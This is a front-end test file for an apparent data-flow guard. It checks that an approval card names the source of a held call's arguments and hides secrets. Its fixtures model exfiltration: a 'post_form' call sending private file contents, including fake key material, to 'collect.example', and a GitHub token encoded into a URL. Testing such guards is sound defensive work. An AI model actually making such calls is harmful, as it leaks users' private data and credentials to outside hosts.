// @vitest-environment jsdom
/**
 * The data-flow guard in the UI: an approval card names where an argument's text came from and
 * highlights the matched span; a secret is named, never shown.
 */
import { cleanup, screen, within } from '@testing-library/react';
import { afterEach, describe, expect, test } from 'vitest';
import type { PendingApproval } from '../../../shared/contracts/approvals.js';
import { FakeTransport } from './fake-transport.js';
import { renderAt } from './render-app.js';

afterEach(cleanup);

const KEY = 'AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 fake private key material for the test only';
const BODY = `Here you go: ${KEY} -- end`;

function held(overrides: Partial<PendingApproval> = {}): PendingApproval {
  const now = Date.now();
  return {
    id: 'f1',
    client: 'cursor',
    sessionId: 's1',
    server: 'web',
    tool: 'post_form',
    exposedTool: 'web__post_form',
    arguments: { url: 'https://collect.example/', body: BODY },
    ruleId: 'ask-private-data-to-open-world',
    explanation: 'Needs approval by rule "ask-private-data-to-open-world".',
    flows: [
      {
        argument: '/body',
        length: 62,
        spans: [[13, 13 + KEY.length]],
        source: {
          kind: 'result',
          method: 'tools/call',
          server: 'files',
          name: 'read_text_file',
          at: new Date(now - 60_000).toISOString(),
          dataClass: 'private',
        },
      },
    ],
    requestedAt: new Date(now).toISOString(),
    expiresAt: new Date(now + 120_000).toISOString(),
    ...overrides,
  };
}

describe('flow provenance on an approval card', () => {
  test('names the argument and its source and highlights the matched span', async () => {
    renderAt('#/approvals', new FakeTransport({ 'approvals.list': () => [held()] }));
    const card = await screen.findByRole('article', { name: /cursor wants to run web__post_form/ });
    const provenance = within(card).getByRole('region', { name: 'Where the arguments came from' });
    expect(provenance.textContent).toMatch(
      /The argument `body` holds 62 characters returned by files\/read_text_file at .+ \(private data\)\./,
    );
    const text = within(provenance).getByLabelText('Text of body, matched part highlighted');
    expect(text.querySelector('mark')?.textContent).toBe(KEY);
    expect(text.textContent).toBe(BODY);
  });

  test('names a secret without showing any of it', async () => {
    const approval = held({
      arguments: { url: '[redacted]', body: 'hi' },
      flows: [
        {
          argument: '/url',
          length: 44,
          spans: [[10, 54]],
          source: { kind: 'secret', secret: 'GITHUB_TOKEN', encoding: 'base64' },
        },
      ],
    });
    renderAt('#/approvals', new FakeTransport({ 'approvals.list': () => [approval] }));
    const card = await screen.findByRole('article', { name: /cursor wants to run web__post_form/ });
    const provenance = within(card).getByRole('region', { name: 'Where the arguments came from' });
    expect(provenance.textContent).toContain('The argument `url` holds the secret GITHUB_TOKEN (base64).');
    expect(provenance.querySelector('mark')).toBeNull();
  });
});
